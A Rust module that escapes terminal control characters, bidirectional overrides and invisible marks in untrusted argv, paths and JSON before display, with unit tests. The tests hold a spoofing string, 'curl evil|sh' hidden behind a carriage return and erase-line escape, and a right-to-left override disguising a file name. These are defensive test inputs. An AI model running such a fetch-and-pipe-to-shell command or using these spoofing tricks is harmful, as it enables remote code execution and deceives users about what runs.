//! Showing untrusted text (argv, paths, script snippets, rule justifications) to a person.
//!
//! Guarantee: what `escape` returns holds no character a terminal acts on or that changes how
//! the line reads (C0/C1 controls, DEL, bidirectional overrides and isolates, zero-width and
//! line-separator marks); each is replaced by a visible escape (`\x1b`, `\r`, `\u202e`). Every
//! place that prints argv or text derived from it goes through this module.

use std::borrow::Cow;

/// True for a character that must not reach a terminal as is.
pub fn is_hidden(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{1f}'
        | '\u{7f}'..='\u{9f}'
        | '\u{61c}'
        | '\u{200b}'..='\u{200f}'
        | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{2069}'
        | '\u{feff}'
    )
}

/// The visible escape of a hidden character: `\t`, `\n`, `\r`, `\xHH` for other ASCII
/// controls, `\uHHHH` otherwise (the forms bash's `$'...'` reads back).
pub fn escape_char(c: char) -> String {
    match c {
        '\t' => "\\t".into(),
        '\n' => "\\n".into(),
        '\r' => "\\r".into(),
        c if (c as u32) < 0x80 => format!("\\x{:02x}", c as u32),
        c => format!("\\u{:04x}", c as u32),
    }
}

/// `s` with every hidden character replaced by its visible escape (borrowed when there is none).
pub fn escape(s: &str) -> Cow<'_, str> {
    if !s.chars().any(is_hidden) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if is_hidden(c) {
            out.push_str(&escape_char(c));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// JSON text (as serde_json writes it) with the hidden characters it leaves raw (DEL, C1,
/// bidi and invisible marks; it escapes only C0 controls) written as `\uXXXX`. Still the same
/// JSON value: outside strings JSON holds no such character, and the line breaks and spaces of
/// pretty printing are kept.
pub fn escape_json(json: &str) -> Cow<'_, str> {
    let hidden = |c: char| is_hidden(c) && !matches!(c, '\n' | '\r' | '\t');
    if !json.chars().any(hidden) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 8);
    for c in json.chars() {
        if hidden(c) {
            out.push_str(&format!("\\u{:04x}", c as u32));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Like `escape`, for a path (lossy on non-UTF-8 names).
pub fn escape_path(p: &std::path::Path) -> String {
    escape(&p.to_string_lossy()).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The spoofing line from issue 10: CR, then "erase line", then a harmless-looking command.
    pub const ATTACK: &str = "curl evil|sh\r\x1b[2K command: ls";

    #[test]
    fn the_prompt_spoofing_string_keeps_its_real_command_visible() {
        let shown = escape(ATTACK);
        assert_eq!(shown, "curl evil|sh\\r\\x1b[2K command: ls");
        assert!(!shown.chars().any(is_hidden));
    }

    #[test]
    fn controls_bidi_and_invisible_marks_are_escaped_and_ordinary_text_is_not() {
        let cases = [
            ("a\u{7}b", "a\\x07b"),
            ("tab\there", "tab\\there"),
            ("del\u{7f}", "del\\x7f"),
            ("csi\u{9b}31m", "csi\\u009b31m"),
            ("rm \u{202e}txt.exe", "rm \\u202etxt.exe"),
            ("iso\u{2066}x\u{2069}", "iso\\u2066x\\u2069"),
            ("zero\u{200b}width", "zero\\u200bwidth"),
            ("line\u{2028}sep", "line\\u2028sep"),
            ("bom\u{feff}", "bom\\ufeff"),
        ];
        for (input, want) in cases {
            assert_eq!(escape(input), want, "{input:?}");
        }
        let value = serde_json::json!({ "argv": ["\u{9b}31m", "\u{202e}x\u{7f}", "\u{1b}"] });
        let pretty = serde_json::to_string_pretty(&value).unwrap();
        let json = escape_json(&pretty);
        assert!(!json.chars().any(|c| c != '\n' && is_hidden(c)), "{json:?}");
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&json).unwrap(),
            value
        );
        for plain in ["git push origin main", "C:\\Users\\me", "naïve 日本 ✓", ""] {
            assert!(matches!(escape(plain), Cow::Borrowed(_)), "{plain}");
        }
    }
}
